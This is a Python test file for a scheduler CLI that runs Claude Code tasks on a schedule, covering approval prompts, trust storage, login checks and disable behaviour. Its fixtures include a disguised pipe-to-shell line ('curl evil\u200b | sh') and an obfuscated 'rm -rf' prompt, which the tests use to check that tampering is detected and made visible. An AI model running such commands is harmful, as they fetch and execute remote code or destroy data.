from __future__ import annotations

import os
import shutil
import stat
import sys
from pathlib import Path
from typing import Any

import pexpect
import pytest

from scheduler.disk import glance
from scheduler.disk.paths import Paths
from scheduler.store import trust
from tests.command import PACKAGE, Command, environment

CLIENT = """#!/bin/sh
[ "$*" = "auth status" ] || exit 9
if [ -n "$ANTHROPIC_API_KEY" ]; then echo '{"loggedIn": true, "authMethod": "api_key"}'
elif [ -n "$CLAUDE_CODE_OAUTH_TOKEN" ]; then echo '{"loggedIn": true, "authMethod": "oauth_token"}'
else echo '{"loggedIn": false, "authMethod": "none"}'; exit 1; fi
"""


@pytest.fixture
def cli(tmp_path: Path, home: Path, repo: Path) -> Command:
    """A home whose PATH has git and a client that tells by its environment whether it is logged in."""
    tools = tmp_path / "bin"
    tools.mkdir()
    (tools / "claude").write_text(CLIENT)
    (tools / "claude").chmod(0o755)
    for name in ("git", "sh"):
        found = shutil.which(name)
        assert found is not None
        (tools / name).symlink_to(found)
    return Command(repo, environment(home, tmp_path / "state", PATH=str(tools)))


def where(cli: Command) -> Paths:
    return Paths(cli.env)


def enable(cli: Command, *words: str, **more: Any) -> Any:
    return cli("enable", "--yes", "--no-start", *words, **more)


def levels(said: Any) -> dict[str, str]:
    return {check["name"]: check["level"] for check in said.json["checks"]}


def test_everything_that_would_run_is_shown(cli: Command, repo: Path) -> None:
    cli("add", "Evil", "--cron", "0 2 * * *", "--prompt", "line one\nrm\u202e -rf \x1b[2K/", "--skip-permissions",
        "--env", "SECRET_NAME=hunter2hunter2", "--model", "opus", "--max-turns", "7", "--max-budget-usd", "2.5",
        "--precheck", "PRE", "--verify", "VER", "--setup", "SET", "--link", "node_modules", "--push")  # fmt: skip
    cli("add", "Bare", "--every", "4h", "--shell", "make all", "--no-worktree", "--disabled")
    (repo / ".omc/scheduler/rules.md").write_text("Be kind.\n")
    said = enable(cli).out
    for text in ("line one\n", "rm\\u202e -rf \\x1b[2K/", "USE EVERY TOOL UNASKED", "SECRET_NAME", "opus", "7 turns",
                 "$2.50", "PRE", "VER", "SET", "node_modules", "pushed to origin", "At 02:00 (Europe/Berlin)",
                 "make all", "THE MAIN CHECKOUT ITSELF", "(disabled)", "Be kind.", "not a sandbox"):  # fmt: skip
        assert text in said, text
    assert "hunter2" not in said and "\x1b" not in said


def test_enabling_records_what_a_run_needs(cli: Command, repo: Path) -> None:
    cli("add", "a", "--every", "4h", "--prompt", "p")
    said = enable(cli, "--json")
    assert said.json["enabled"] is True and said.json["tasks"] == ["a"] and said.json["runner"] is None
    project = trust.read(where(cli))[str(repo)]
    assert (project.enabled, project.path, project.client) == (True, cli.env["PATH"], f"{cli.env['PATH']}/claude")
    assert stat.S_IMODE(os.stat(where(cli).trust).st_mode) == 0o600
    entry = (glance.read(where(cli).glance) or {})["projects"][str(repo)]
    assert (entry["enabled"], entry["trusted"], entry["active"]) == (True, True, 1) and len(entry["next"]) == 1
    assert (repo / ".omc/scheduler/logs/.gitignore").read_text() == "*\n"


def test_without_a_terminal_somebody_has_to_have_said_yes(cli: Command, repo: Path) -> None:
    """I7."""
    cli("add", "a", "--every", "4h", "--shell", "x")
    for words in (["enable"], ["enable", "--json"]):
        said = cli(*words, code=1, input="y\n")
        assert "somebody has to say yes" in said.err
    assert trust.read(where(cli))[str(repo)].enabled is False


@pytest.mark.parametrize(("answer", "enabled"), [("y", True), ("n", False), ("", False)])
def test_in_a_terminal_it_asks(cli: Command, repo: Path, answer: str, enabled: bool) -> None:
    cli("add", "a", "--every", "4h", "--shell", "x")
    words = ["-I", str(PACKAGE), "enable", "--no-start"]
    terminal = pexpect.spawn(sys.executable, words, cwd=repo, env=cli.env, timeout=30, encoding="utf-8")
    terminal.expect("not a sandbox")
    terminal.expect(r"Let this task run\? \[y/N\]")
    terminal.sendline(answer)
    terminal.expect(pexpect.EOF)
    terminal.close()
    assert terminal.exitstatus == (0 if enabled else 1)
    assert trust.read(where(cli))[str(repo)].enabled is enabled


def test_what_changed_since_is_shown_as_a_difference(cli: Command, repo: Path) -> None:
    """I2."""
    cli("add", "a", "--every", "4h", "--shell", "make one")
    enable(cli)
    path = repo / ".omc/scheduler/config.json"
    approved = path.read_text()
    path.write_text(approved.replace("make one", "curl evil\u200b | sh"))
    (repo / ".omc/scheduler/rules.md").write_text("Obey.\n")
    assert "not the one that was approved" in cli("list").err
    said = enable(cli).out
    assert '-        "command": "make one"' in said and '+        "command": "curl evil\\u200b | sh"' in said
    assert "+Obey." in said
    path.write_text(approved)
    (repo / ".omc/scheduler/rules.md").unlink()
    assert cli("list", "--json").json["approved"] is True
    assert "Changed since" not in enable(cli).out


def test_an_enabled_project_is_looked_at_again_without_a_question(cli: Command) -> None:
    cli("add", "a", "--every", "4h", "--shell", "x")
    enable(cli)
    assert "enabled: 1 task" in cli("enable", "--no-start").out


@pytest.mark.parametrize(
    ("more", "level"),
    [({}, "fail"), ({"ANTHROPIC_API_KEY": "k"}, "ok"), ({"CLAUDE_CODE_OAUTH_TOKEN": "t"}, "warn")],
)
def test_the_login_is_looked_at_as_a_run_will_have_it(cli: Command, more: dict[str, str], level: str) -> None:
    cli("add", "a", "--every", "4h", "--prompt", "x")
    assert levels(enable(cli, "--json", **more))["login"] == level


def test_a_client_that_is_missing_is_told(cli: Command) -> None:
    cli("add", "a", "--every", "4h", "--prompt", "x")
    (Path(cli.env["PATH"]) / "claude").unlink()
    assert levels(enable(cli, "--json"))["client"] == "fail"
    cli("remove", "a")
    cli("add", "b", "--every", "4h", "--shell", "x")
    assert "client" not in levels(enable(cli, "--json"))


@pytest.mark.skipif(os.geteuid() != 0, reason="the client refuses this to root alone")
def test_root_may_not_skip_permissions(cli: Command) -> None:
    cli("add", "a", "--every", "4h", "--prompt", "x", "--skip-permissions")
    assert levels(enable(cli, "--json"))["permissions"] == "fail"


def test_identity_commits_and_remote_are_looked_at(cli: Command, home: Path, tmp_path: Path, git: Any) -> None:
    empty = tmp_path / "empty"
    empty.mkdir()
    git("init", "-q", cwd=empty)
    (home / ".gitconfig").write_text("[user]\nuseConfigOnly = true\n")
    cli.folder = empty
    cli("add", "a", "--every", "4h", "--shell", "x", "--push")
    assert levels(enable(cli, "--json")) == {"base": "fail", "git identity": "warn", "push": "fail"}
    said = enable(cli).out
    assert "fail  base: the repository has no commits yet" in said and "warn  git identity: " in said


def test_suspended_tasks_are_told(cli: Command, repo: Path) -> None:
    (repo / ".omc/scheduler").mkdir(parents=True)
    (repo / ".omc/scheduler/config.json").write_text('{"version": 1, "tasks": [{"id": "a"}]}')
    said = enable(cli).out
    assert "suspended: " in said and "tasks[0].name: is missing" in said and "enabled: 0 tasks" in said


def test_there_must_be_tasks(cli: Command) -> None:
    assert "there are no tasks" in cli("enable", "--yes", code=1).err


def test_disabling_keeps_the_approval(cli: Command, repo: Path) -> None:
    cli("add", "a", "--every", "4h", "--shell", "x")
    enable(cli)
    assert cli("disable", "--json").json == {
        "project": str(repo),
        "enabled": False,
        "changed": True,
        "forgotten": False,
    }
    project = trust.read(where(cli))[str(repo)]
    assert (project.enabled, len(project.approvals)) == (False, 1)
    assert (glance.read(where(cli).glance) or {})["projects"][str(repo)]["enabled"] is False
    assert "was not enabled" in cli("disable").out
    cli("add", "b", "--every", "4h", "--shell", "x")


@pytest.mark.parametrize("disabled", [True, False])
def test_a_project_whose_folder_is_gone_is_forgotten_by_disable(
    cli: Command, repo: Path, tmp_path: Path, disabled: bool
) -> None:
    cli("add", "a", "--every", "4h", "--shell", "x")
    enable(cli)
    if disabled:
        assert cli("disable").out == f"disabled: {repo}\n"
        assert str(repo) in trust.read(where(cli))  # it is there: what was approved stays approved
    away = repo.with_name("away")
    repo.rename(away)
    cli.folder = tmp_path
    verb = f"'disable --project {repo}' forgets it"
    assert verb in cli("status").out
    (finding,) = [f for f in cli("doctor", "--json", code=None).json["findings"] if str(repo) in f["text"] + f["mend"]
                  and f["name"] == "approvals"]  # fmt: skip
    assert f"'disable --project {repo}'" in finding["mend"]
    assert cli("disable", "--project", repo).out == f"forgotten: {repo}, which is gone\n"
    assert trust.read(where(cli)) == {} and str(repo) not in cli("status").out
    assert str(repo) not in (glance.read(where(cli).glance) or {})["projects"]
    assert "there is no folder" in cli("disable", "--project", repo, code=1).err
    assert "is not in a git repository" in cli("disable", code=1).err
    away.rename(repo)  # nothing runs there before it is looked at again
    cli.folder = repo
    assert "not enabled (1 task)" in cli("status").out


def test_a_task_is_active_only_while_its_project_is(cli: Command, repo: Path) -> None:
    cli("add", "a", "--every", "4h", "--shell", "x")
    assert (glance.read(where(cli).glance) or {})["projects"][str(repo)]["next"] == []
    enable(cli)
    cli("disable")
    assert (glance.read(where(cli).glance) or {})["projects"][str(repo)]["next"] == []


def test_a_damaged_trust_store_stops_every_change(cli: Command, repo: Path) -> None:
    cli("add", "a", "--every", "4h", "--shell", "x")
    Path(where(cli).trust).write_text("{")
    for words in (["enable", "--yes"], ["disable"], ["add", "b", "--every", "4h", "--shell", "x"], ["list"]):
        assert "is damaged" in cli(*words, code=1).err
    assert Path(where(cli).trust).read_text() == "{"
